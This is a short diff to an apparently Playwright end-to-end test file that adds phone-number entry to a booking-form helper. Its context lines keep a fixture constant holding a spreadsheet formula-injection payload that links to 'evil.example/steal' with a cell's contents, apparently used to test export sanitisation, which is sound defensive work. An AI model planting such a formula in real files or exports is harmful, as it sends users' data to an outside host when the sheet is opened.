@@ -11,6 +11,7 @@ import { E2E_DATA_DIR } from "../support/e2e";
 import { toastWith } from "./contact-helpers";
 import { expect, test } from "./fixtures";
 import { finishAudit } from "./free-it-audit-helpers";
+import { phoneField, TEST_PHONE } from "../support/booking-form";
 
 const HOSTILE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")';
 
@@ -42,6 +43,7 @@ async function bookCall(page: Page, testInfo: TestInfo, email: string) {
   const form = page.locator("#booking-form");
   await form.getByLabel("Name").fill("Pat Privacy");
   await form.getByLabel("Email").fill(email);
+  await phoneField(form).fill(TEST_PHONE);
   await form.getByRole("button", { name: "Book this call" }).click();
   await expect(page.getByRole("heading", { level: 1, name: "You're booked!" })).toBeVisible();
 }
